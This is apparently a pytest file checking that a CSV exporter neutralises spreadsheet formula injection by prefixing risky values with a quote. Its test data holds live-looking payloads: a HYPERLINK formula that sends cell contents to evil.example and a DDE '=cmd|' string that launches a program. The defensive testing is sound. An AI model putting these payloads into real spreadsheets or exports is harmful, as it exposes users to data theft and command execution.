"""Issue 15: CSV formula injection. A vendor field holding ``=HYPERLINK(...)`` or ``+SUM(...)``
must reach ``exporter export --format csv`` as text a spreadsheet shows and never runs (a
leading quote, OWASP's rule), in cells, record ids and column names alike; plain numbers stay
numbers. (The restore side: tests/test_restore_csv_content.py.)"""

from __future__ import annotations

import csv
from pathlib import Path

from exporter.archive import Archive, Record
from exporter.keys import KeyFile
from tests.conftest import Cli

EVIL = {"Link": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "Sum": "+SUM(A1:A9)",
        "At": "@cmd", "Tab": "\t=1+1", "Minus": "-2+3", "Number": "-5", "Plain": "fine",
        "=Header": "x"}


def test_formula_cells_are_exported_as_text(run_cli: Cli, tmp_path: Path) -> None:
    run_cli.init(passphrase=None)
    with Archive.open(run_cli.archive, KeyFile(run_cli.key_file), write=True) as arc:
        run = arc.begin_run()
        arc.put_batch(run, "google", "sheet_rows", [Record("=cmd|' /C calc'!A0", EVIL)])
        arc.finish_run(run, "ok")
    out = tmp_path / "rows.csv"
    result = run_cli("export", "--format", "csv", "--stream", "sheet_rows", "--out", str(out))
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["Link"] == "'" + EVIL["Link"]
    assert row["Sum"] == "'+SUM(A1:A9)" and row["At"] == "'@cmd"
    assert row["Tab"] == "'\t=1+1" and row["Minus"] == "'-2+3"
    assert row["Number"] == "-5" and row["Plain"] == "fine"  # numbers and text unchanged
    assert row["_id"] == "'=cmd|' /C calc'!A0"
    assert "'=Header" in row and "=Header" not in row
